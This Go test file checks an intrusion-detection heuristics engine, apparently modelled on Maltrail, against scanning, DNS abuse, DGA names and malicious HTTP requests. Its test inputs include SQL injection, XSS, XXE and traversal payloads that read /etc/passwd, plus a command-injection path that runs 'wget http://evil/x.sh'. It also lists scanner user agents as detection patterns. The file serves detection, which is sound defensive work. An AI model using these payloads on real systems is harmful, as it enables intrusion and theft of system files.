package heuristics

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"testing"

	"github.com/xtrail/xtrail/pkg/proto"
	"github.com/xtrail/xtrail/pkg/trails"
)

// rec records findings as "TYPE trail|info" lines.
type rec struct{ got []string }

func (r *rec) Report(f *Finding) {
	s := f.Type + " " + string(f.Trail) + "|" + f.Info
	if f.Forwarded != nil {
		s += "|fwd=" + string(f.Forwarded)
	}
	if f.Ports {
		s += fmt.Sprintf("|ports=%d,%d", f.SrcPort, f.DstPort)
	}
	r.got = append(r.got, s)
}

func (r *rec) take() []string { g := r.got; r.got = nil; return g }

func newEngine(t testing.TB, c Config) *Engine {
	t.Helper()
	c.Use = true
	e, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func want(t *testing.T, got []string, want ...string) {
	t.Helper()
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

var (
	pub1  = netip.MustParseAddr("203.0.113.5")
	priv1 = netip.MustParseAddr("10.0.0.66")
	priv2 = netip.MustParseAddr("192.168.1.1")
)

func httpReq(method, host, path string) *HTTP {
	return &HTTP{Sec: 1700000000, Src: priv1, Dst: pub1, SrcPort: 50000, DstPort: 80, Method: []byte(method),
		Host: []byte(host), Path: []byte(path)}
}

func TestWebScan(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	h := httpReq("GET", "x.example", "")
	for i := range 11 {
		h.Path = []byte(fmt.Sprintf("/seg%d/x?y=%d", i, i))
		h.SrcPort = uint16(50000 + i)
		e.WebScan(h, &r)
		// a repeated segment never counts twice
		h.Path = []byte(fmt.Sprintf("/seg%d/other", i))
		e.WebScan(h, &r)
	}
	want(t, r.take(), "PATH *|potential web scanning|ports=50000,80")
	h.Path = []byte("/seg99")
	e.WebScan(h, &r) // once per pair and window
	want(t, r.take())

	// near miss: 10 segments
	e = newEngine(t, Config{})
	for i := range 10 {
		h.Path = []byte(fmt.Sprintf("/s%d", i))
		e.WebScan(h, &r)
	}
	want(t, r.take())
	// the window (30 s) ends: counting starts afresh
	h.Sec += 30
	h.Path = []byte("/s10")
	e.WebScan(h, &r)
	want(t, r.take())
	// both ends private: not counted
	e = newEngine(t, Config{})
	p := httpReq("GET", "x", "")
	p.Dst = priv2
	for i := range 20 {
		p.Path = []byte(fmt.Sprintf("/s%d", i))
		e.WebScan(p, &r)
	}
	want(t, r.take())
}

func dnsQ(sec int64, name string) *DNS {
	return &DNS{Sec: sec, Name: []byte(name), Whitelist: trails.NewWhitelist()}
}

func TestExhaustion(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	for i := range exhaustionThreshold {
		if e.Exhaustion(dnsQ(100, fmt.Sprintf("a%d.victim.com", i)), &r) {
			t.Fatalf("query %d skipped before the threshold", i)
		}
	}
	if !e.Exhaustion(dnsQ(101, "zz.q.victim.com"), &r) {
		t.Error("query past the threshold not skipped")
	}
	want(t, r.take(), "DNS (zz.q).victim.com|potential dns exhaustion (suspicious)")
	if !e.Exhaustion(dnsQ(102, "zz2.victim.com"), &r) {
		t.Error("later query of the exhausted base not skipped")
	}
	want(t, r.take()) // once per window

	// near miss: 1000 queries, 999 distinct subdomains
	e = newEngine(t, Config{})
	for i := range exhaustionThreshold {
		e.Exhaustion(dnsQ(100, fmt.Sprintf("a%d.victim.com", i%999)), &r)
	}
	if e.Exhaustion(dnsQ(101, "a5.victim.com"), &r) {
		t.Error("skipped at 999 subdomains")
	}
	want(t, r.take())

	// a base of three labels when the second-to-last is short
	e = newEngine(t, Config{})
	for i := range exhaustionThreshold {
		e.Exhaustion(dnsQ(100, fmt.Sprintf("a%d.victim.co.uk", i)), &r)
	}
	e.Exhaustion(dnsQ(100, "b.victim.co.uk"), &r)
	want(t, r.take(), "DNS (b.victim).co.uk|potential dns exhaustion (suspicious)")

	// DNSBL zones, local lookups, whitelisted bases and the 60 s window
	for _, c := range []struct{ name, sub string }{{"dnsbl", "%d.dnsbl.example.net"}, {"local", "wpad"}, {"window", ""}} {
		e = newEngine(t, Config{})
		sec := int64(100)
		for i := range exhaustionThreshold {
			n := fmt.Sprintf("a%d.victim.com", i)
			switch c.name {
			case "dnsbl":
				n = fmt.Sprintf(c.sub, i)
			case "local":
				if i == 0 {
					n = "wpad.victim.com"
				}
			case "window":
				sec = 100 + int64(i/500)*60 // 500 per window
			}
			e.Exhaustion(dnsQ(sec, n), &r)
		}
		e.Exhaustion(dnsQ(sec, "zz.victim.com"), &r)
		e.Exhaustion(dnsQ(sec, "zz.dnsbl.example.net"), &r)
		want(t, r.take())
	}
	e = newEngine(t, Config{})
	wl := trails.NewWhitelist()
	wl.Add("victim.com")
	for i := range exhaustionThreshold + 1 {
		q := dnsQ(100, fmt.Sprintf("a%d.victim.com", i))
		q.Whitelist = wl
		if e.Exhaustion(q, &r) {
			t.Fatal("whitelisted base skipped")
		}
	}
	want(t, r.take())
}

func TestNXDomainFlood(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	for i := range 25 {
		e.NXDomain(dnsQ(int64(1700000000+i), fmt.Sprintf("nx%d.dgaparent.com", i)), &r)
	}
	var names []string
	for i := 1; i <= 20; i++ {
		names = append(names, fmt.Sprintf("nx%d", i))
	}
	sortStrings(names)
	want(t, r.take(), "DNS ("+strings.Join(names, ",")+").dgaparent.com|excessive no such domain (suspicious)")

	// the same name over and over: the name's own counter
	e = newEngine(t, Config{})
	for range 21 {
		e.NXDomain(dnsQ(1700000000, "gone.example.org"), &r)
	}
	want(t, r.take(), "DNS gone.example.org|excessive no such domain (suspicious)")

	// near misses: 20 answers; a private client; a trail's parent; a new hour
	for _, c := range []string{"twenty", "private", "trail", "hour", "dnsbl"} {
		e = newEngine(t, Config{})
		names, _ := trails.LoadNames(strings.NewReader("dgaparent.com,malware (test),(static)\n"), "t", nil)
		for i := range 21 {
			q := dnsQ(int64(1700000000+i), fmt.Sprintf("nx%d.dgaparent.com", i))
			switch c {
			case "twenty":
				if i == 20 {
					continue
				}
			case "private":
				q.ClientPrivate = true
			case "trail":
				q.Names = names
			case "hour":
				q.Sec = int64(1700000000 + i*200) // 20 answers cross an hour boundary
			case "dnsbl":
				q.Name = []byte(fmt.Sprintf("1.2.3.%d.zen.dgaparent.com", i))
			}
			e.NXDomain(q, &r)
		}
		if g := r.take(); len(g) != 0 {
			t.Errorf("%s: %v", c, g)
		}
	}
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

func TestDGA(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	e.NXDomain(dnsQ(1, "x7k2q9vz3mwp1hb.com"), &r)
	e.NXDomain(dnsQ(1, "bcdfghjklmn.net"), &r)
	want(t, r.take(), "DNS (x7k2q9vz3mwp1hb).com|entropy threshold no such domain (suspicious)",
		"DNS (bcdfghjklmn).net|consonant threshold no such domain (suspicious)")
	// near misses: a word, a dash, three labels, a private client still counts
	for _, n := range []string{"google.com", "x7k2q9vz3-mwp1hb.com", "www.x7k2q9vz3mwp1hb.com", "bcdfghjkl.net"} {
		e.NXDomain(dnsQ(1, n), &r)
	}
	want(t, r.take())
	q := dnsQ(1, "x7k2q9vz3mwp1hb.com")
	q.ClientPrivate = true
	e.NXDomain(q, &r)
	if len(r.take()) != 1 {
		t.Error("DGA has no private-client guard")
	}
}

func TestSinkhole(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	var a AnswerTrails
	a.Add(netip.MustParseAddr("198.51.100.90"), "sinkhole testsink (malware)")
	a.Add(netip.MustParseAddr("198.51.100.91"), "parking site (suspicious)")
	if a.Add(netip.MustParseAddr("66.66.66.66"), "malware (test)") || a.Len() != 2 {
		t.Fatal("answer trails keep only sinkhole and parking trails")
	}
	e.Sinkhole(dnsQ(1, "sinkholed.com"), netip.MustParseAddr("198.51.100.90"), &a, &r)
	e.Sinkhole(dnsQ(1, "a.parked.com"), netip.MustParseAddr("198.51.100.91"), &a, &r)
	want(t, r.take(), "DNS (sinkholed).com|sinkholed by testsink (malware)", "DNS (a.parked).com|parked site (suspicious)")
	// near misses: another address; a whitelisted name
	e.Sinkhole(dnsQ(1, "sinkholed.com"), netip.MustParseAddr("198.51.100.92"), &a, &r)
	q := dnsQ(1, "sinkholed.com")
	q.Whitelist.Add("sinkholed.com")
	e.Sinkhole(q, netip.MustParseAddr("198.51.100.90"), &a, &r)
	want(t, r.take())
}

func TestLongDomain(t *testing.T) {
	e := newEngine(t, Config{})
	var res trails.DomainHit
	long := strings.Repeat("a", 25)
	for _, c := range []struct{ name, trail string }{
		{long + ".b.example.com", "(" + long + ".b).example.com"},
		{long + ".com", "(" + long + ").com"},
		{strings.Repeat("a", 24) + ".com", ""},
		{strings.Repeat("a", 24) + "-b.com", ""},
		{long + ".blogspot.com", ""},
	} {
		got := ""
		if e.LongDomain([]byte(c.name), &res) {
			got = string(res.Trail)
			if res.Meta.Info != "long domain (suspicious)" || res.Meta.Reference != "(heuristic)" {
				t.Errorf("meta %+v", res.Meta)
			}
		}
		if got != c.trail {
			t.Errorf("%s: %q, want %q", c.name, got, c.trail)
		}
	}
	off := newEngine(t, Config{Disabled: 1 << LongDomain})
	if off.LongDomain([]byte(long+".com"), &res) {
		t.Error("disabled long_domain ran")
	}
}

func TestUserAgent(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	for _, ua := range []string{"masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"sqlmap%2F1.7", "  x-zgrab  ", "curl/8.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"} {
		e.UserAgent([]byte(ua), &r)
	}
	want(t, r.take(),
		`UA masscan(/1.0 \(https://github.com/robertdavidgraham/masscan\))|user agent (suspicious)`,
		`UA Nmap (Mozilla/5.0 \(compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html\))|user agent (suspicious)`,
		`UA sqlmap(/1.7)|user agent (suspicious)`,
		`UA (x-)zgrab|user agent (suspicious)`)
	// WHITELIST_UA_REGEX
	ua, err := LoadUserAgents(strings.NewReader("# test list\nevilbot\nbad[0-9]+agent\n"), "ua.txt")
	if err != nil {
		t.Fatal(err)
	}
	e = newEngine(t, Config{UserAgents: ua})
	e.UserAgent([]byte("EvilBot/2"), &r)
	e.UserAgent([]byte("my bad42agent x"), &r)
	e.UserAgent([]byte("masscan/1.0"), &r) // the file replaced the built-in list
	want(t, r.take(), "UA EvilBot(/2)|user agent (suspicious)", "UA bad42agent (my bad42agent x)|user agent (suspicious)")
	if _, err := LoadUserAgents(strings.NewReader("a(?<=b)\n"), "ua.txt"); err == nil || !strings.Contains(err.Error(), "ua.txt:1") {
		t.Errorf("untranslatable entry: %v", err)
	}
}

func TestRequestFamilies(t *testing.T) {
	cases := []struct{ path, info string }{
		{"/items.php?id=1%20union%20all%20select%20username,password%20from%20users", "potential sql injection"},
		{"/p?q=<![cdata[<x>]]>", "potential xml injection"},
		{"/index.php?page=php://filter/convert.base64-encode/resource=index", "potential php injection"},
		{"/ldap?user=*)(uid=*))(|(uid=*", "potential ldap injection"},
		{"/search?q=<script>alert(1)</script>", "potential xss injection"},
		{"/x?xml=<!doctype%20foo%20[<!entity%20xxe%20system%20\"file:///etc/passwd\">]>", "potential xxe injection"},
		{"/greet?name={{7*7}}", "potential ssti injection"},
		{"/t?imei=356938035643809&v=1", "potential data leakage"},
		{"/.htaccess?x=1", "config file access"},
		{"/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh", "potential remote code execution"},
		{"/download?file=../../../../etc/passwd", "potential directory traversal"},
		{"/x?acunetix-wvs-test-for-some-inexistent-file", "potential web scan"},
		{"/dnscfg.cgi?dnsprimary=6.6.6.6&dnssecondary=6.6.6.7", "potential dns changer"},
	}
	near := []string{
		"/items.php?id=12&sort=union-station", "/p?q=cdata", "/index.php?page=phpinfo", "/ldap?user=bob",
		"/search?q=script+alert", "/x?doc=doctype", "/greet?name={7*7}", "/t?imei=12&mac=aa", "/htaccess-guide?x=1",
		"/cgi?cmd=status;verbose", "/a/b/file..txt?x=1", "/x?q=scanner", "/setup?dns=auto",
		"/../images/logo.png?x=1", // a whitelisted path snippet
		"/items.php/union/select", // no precondition character
	}
	e := newEngine(t, Config{})
	var r rec
	for _, c := range cases {
		h := httpReq("GET", "h.example", c.path)
		if !e.Request(h, &r) {
			t.Errorf("%s: no finding", c.path)
			continue
		}
		got := r.take()
		w := "URL h.example(" + string(appendForceEncoded(nil, appendNoDoubleSlash(nil, []byte(c.path)))) + ")|" + c.info + " (suspicious)"
		if len(got) != 1 || got[0] != w {
			t.Errorf("%s:\n got %v\nwant %s", c.path, got, w)
		}
	}
	for _, p := range near {
		if e.Request(httpReq("GET", "h.example", p), &r) {
			t.Errorf("near miss %s: %v", p, r.take())
		}
	}
	// data leakage is not reported to a private destination
	h := httpReq("GET", "h", "/t?imei=356938035643809")
	h.Dst = priv2
	if e.Request(h, &r) {
		t.Errorf("data leakage to a private destination: %v", r.take())
	}
	// forwarded-for rides on the finding
	h = httpReq("GET", "h", "/x?id=1'%20or%20'1'='1")
	h.Forwarded = []byte("203.0.113.9")
	e.Request(h, &r)
	want(t, r.take(), "URL h(/x?id=1'%20or%20'1'='1)|potential sql injection (suspicious)|fwd=203.0.113.9")
}

func TestPostBody(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	h := httpReq("POST", "postsqli.example", "/submit")
	h.Body = []byte("q=1 UNION ALL SELECT pwd FROM users")
	e.Request(h, &r)
	want(t, r.take(), `HTTP postsqli.example(/submit \(POST q=1 UNION ALL SELECT pwd FROM users\))|potential sql injection (suspicious)`)
	h.Body = []byte("q=union station&user=bob")
	if e.Request(h, &r) {
		t.Errorf("near miss: %v", r.take())
	}
}

func TestDownloads(t *testing.T) {
	e := newEngine(t, Config{})
	var r rec
	e.Request(httpReq("GET", "dl.example", "/setup.exe"), &r)
	e.Request(httpReq("GET", "dl.example", "/a/b/x.ps1?v"), &r)
	e.Request(httpReq("GET", "dl.example", "/defaultwebpage.cgi"), &r)
	e.Request(httpReq("GET", "dl.example", "/wvs-inexistent-file.asp"), &r)
	want(t, r.take(), "URL dl.example(/setup.exe)|direct .exe download (suspicious)",
		"URL dl.example(/a/b/x.ps1?v)|direct .ps1 download (suspicious)",
		"URL dl.example(/defaultwebpage.cgi)|non-existent page (suspicious)",
		"URL dl.example(/wvs-inexistent-file.asp)|potential web scan (suspicious)")
	for _, p := range []string{"/longsetupname.exe", "/setup.exe?v=2", "/bin/setup.exe", "/setup.zip", "/.exe", "/defaultwebpage.html", "/existent-file.asp"} {
		if e.Request(httpReq("GET", "dl.example", p), &r) {
			t.Errorf("near miss %s: %v", p, r.take())
		}
	}
	h := httpReq("GET", "dl.example", "/setup.exe")
	h.Dst = priv2
	if e.Request(h, &r) {
		t.Errorf("download from a private destination: %v", r.take())
	}
}

func TestIoTProxyMissingHost(t *testing.T) {
	e := newEngine(t, Config{CheckMissingHost: true})
	var r rec
	h := httpReq("GET", "198.51.100.99", "/mirai.x86")
	e.IoTDownload(h, &r)
	h.Path = []byte("/bins/sora.arm7")
	e.IoTDownload(h, &r)
	want(t, r.take(), "HTTP (198.51.100.99)/mirai.x86|potential iot-malware download (suspicious)",
		"HTTP (198.51.100.99)/bins/sora.arm7|potential iot-malware download (suspicious)")
	for _, c := range []struct{ host, path string }{{"198.51.100.99", "/farm"}, {"iot.example", "/mirai.x86"}, {"198.51.100.99:8080", "/x.mips"}} {
		if e.IoTDownload(httpReq("GET", c.host, c.path), &r) {
			t.Errorf("near miss %v: %v", c, r.take())
		}
	}
	h = httpReq("GET", "192.168.1.1", "/mirai.x86")
	h.Dst = priv2
	if e.IoTDownload(h, &r) {
		t.Error("iot download from a private destination")
	}

	for _, p := range []string{"http://proxycheck.example/", "http://judge.example:8080./azenv.php?check=1", "http://a.example/x(http://b.example:80/echo)"} {
		e.ProxyProbe(httpReq("GET", "203.0.113.17", p), &r)
	}
	want(t, r.take(), "HTTP http://proxycheck.example/|potential proxy probe (suspicious)",
		"HTTP http://judge.example/(azenv.php?check=1)|potential proxy probe (suspicious)",
		"HTTP http://a.example/(x(http://b.example/echo))|potential proxy probe (suspicious)")
	h = httpReq("GET", "203.0.113.17", "http://proxycheck.example/")
	h.DstPort = 8080
	e.ProxyProbe(h, &r)
	e.ProxyProbe(httpReq("GET", "203.0.113.17", "http://news.example/today"), &r)
	want(t, r.take())

	h = httpReq("GET", "203.0.113.5", "/x")
	e.MissingHost(h, &r)
	want(t, r.take(), "HTTP 203.0.113.5/x|missing host header (suspicious)")
	off := newEngine(t, Config{})
	off.MissingHost(h, &r)
	want(t, r.take())
}

func TestResponse(t *testing.T) {
	e := newEngine(t, Config{Use: false})
	e.cfg.Use = false // responses run without USE_HEURISTICS
	var r rec
	run := func(p string) {
		var resp proto.HTTPResponse
		_ = proto.ParseHTTPResponse([]byte(p), &resp)
		e.Response([]byte(p), &resp, &r)
	}
	run("HTTP/1.1 200 OK\r\nServer: nginx\r\nX-Sinkhole: Malware\r\n\r\n<html>")
	run("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>THIS DOMAIN HAS BEEN SEIZED</title>")
	run("HTTP/1.1 200 OK\r\nContent-Type: application/HTA; charset=utf-8\r\n\r\n")
	want(t, r.take(), "HTTP X-Sinkhole: Malware|sinkhole response (malware)",
		"HTTP THIS DOMAIN HAS BEEN SEIZED|seized domain (suspicious)",
		"HTTP application/hta; charset=utf-8|content type (suspicious)")
	run("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Giant sinkhole opens downtown</title>sinkhole")
	run("HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n\r\n")
	run("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Domain for sale</title>")
	want(t, r.take())
}

func TestParseDisabled(t *testing.T) {
	d, err := ParseDisabled("long_domain, web_scanning;dns_exhaustion")
	if err != nil || !d.Has(LongDomain) || !d.Has(WebScanning) || !d.Has(DNSExhaustion) || d.Has(PortScanning) {
		t.Errorf("%b %v", d, err)
	}
	if _, err := ParseDisabled("long_domain bogus"); err == nil || !strings.Contains(err.Error(), "port_scanning") {
		t.Errorf("unknown name: %v", err)
	}
	e := newEngine(t, Config{Disabled: d})
	if e.Enabled(DNSExhaustion) || e.Enabled(WebScanning) || !e.Enabled(Infection) {
		t.Error("Enabled ignores DISABLED_HEURISTICS")
	}
	e.cfg.Use = false
	if e.Enabled(Infection) {
		t.Error("Enabled ignores USE_HEURISTICS")
	}
	e.cfg.Disabled = 0
	if !e.Enabled(DNSExhaustion) {
		t.Error("dns exhaustion needs no USE_HEURISTICS")
	}
}

// TestIoTLocalPrefix: with the kernel's local prefix known, a download
// from a destination under it is local; with none, Maltrail's "_" makes
// every destination foreign.
func TestIoTLocalPrefix(t *testing.T) {
	prefix := ""
	e := newEngine(t, Config{LocalPrefix: func(int64) string { return prefix }})
	var r rec
	h := httpReq("GET", "198.51.100.99", "/mirai.x86")
	h.Dst = netip.MustParseAddr("198.51.100.99")
	for _, c := range []struct {
		prefix string
		fires  bool
	}{{"10.0.", true}, {"198.51.", false}, {"", true}} {
		prefix = c.prefix
		if got := e.IoTDownload(h, &r); got != c.fires {
			t.Errorf("prefix %q: %v", c.prefix, got)
		}
	}
	r.take()
}

// TestIsPrivate: the IPv4 shortcut of isPrivate judges every first two
// bytes of an IPv4 address, plain and mapped into IPv6, as netip's tests
// do, and IPv6 addresses are left to them.
func TestIsPrivate(t *testing.T) {
	for hi := 0; hi < 1<<16; hi++ {
		for _, lo := range [][2]byte{{0, 0}, {1, 2}, {255, 255}} {
			v4 := netip.AddrFrom4([4]byte{byte(hi >> 8), byte(hi), lo[0], lo[1]})
			for _, a := range []netip.Addr{v4, netip.AddrFrom16(v4.As16())} {
				if got, want := isPrivate(a), isPrivateRef(a); got != want {
					t.Fatalf("isPrivate(%v) = %v, want %v", a, got, want)
				}
			}
		}
	}
	for _, s := range []string{"::1", "::", "fc00::1", "fd12:3456::1", "fe80::1", "2001:db8::1", "::ffff:10.0.0.1", "::ffff:8.8.8.8", "fe80::1%eth0"} {
		a := netip.MustParseAddr(s)
		if got, want := isPrivate(a), isPrivateRef(a); got != want {
			t.Errorf("isPrivate(%v) = %v, want %v", a, got, want)
		}
	}
	if !isPrivate(netip.MustParseAddr("172.31.0.1")) || isPrivate(netip.MustParseAddr("172.32.0.1")) {
		t.Error("172.16/12 misjudged")
	}
}

// splitFileRef is the former splitFile: a search each for the last '/',
// the first ';' and the last '.'.
func splitFileRef(p []byte) (file, name, ext, query []byte) {
	if i := bytes.IndexByte(p, '#'); i >= 0 {
		p = p[:i]
	}
	if i := bytes.IndexByte(p, '?'); i >= 0 {
		p, query = p[:i], p[i+1:]
	}
	file = p[bytes.LastIndexByte(p, '/')+1:]
	if i := bytes.IndexByte(file, ';'); i >= 0 {
		file = file[:i]
	}
	name = file
	if dot := bytes.LastIndexByte(file, '.'); dot > 0 {
		for _, c := range file[:dot] {
			if c != '.' {
				return file, file[:dot], file[dot:], query
			}
		}
	}
	return file, name, nil, query
}

// checkSplitFile fails when splitFile and splitFileRef differ on p.
func checkSplitFile(t *testing.T, p []byte) {
	t.Helper()
	f, n, e, q := splitFile(p)
	rf, rn, re, rq := splitFileRef(p)
	for i, pair := range [][2][]byte{{f, rf}, {n, rn}, {e, re}, {q, rq}} {
		if !bytes.Equal(pair[0], pair[1]) || (pair[0] == nil) != (pair[1] == nil) {
			t.Fatalf("splitFile(%q) part %d = %q, reference %q", p, i, pair[0], pair[1])
		}
	}
}

// TestSplitFile: splitFile agrees with the former searches on paths of
// the bytes it splits on.
func TestSplitFile(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 10))
	pieces := []string{"/", ".", "..", ";", "?", "#", "a", "bc", "exe", "=", "%2e"}
	for range 300000 {
		var b []byte
		for range rng.IntN(10) {
			b = append(b, pieces[rng.IntN(len(pieces))]...)
		}
		checkSplitFile(t, b)
	}
}

// FuzzSplitFile: splitFile agrees with the former searches on any path.
func FuzzSplitFile(f *testing.F) {
	for _, s := range []string{"/a/b.exe?x=1#f", "/.bashrc", "/a;b.c;d.e", "/..", "x.y", ""} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, p []byte) { checkSplitFile(t, p) })
}
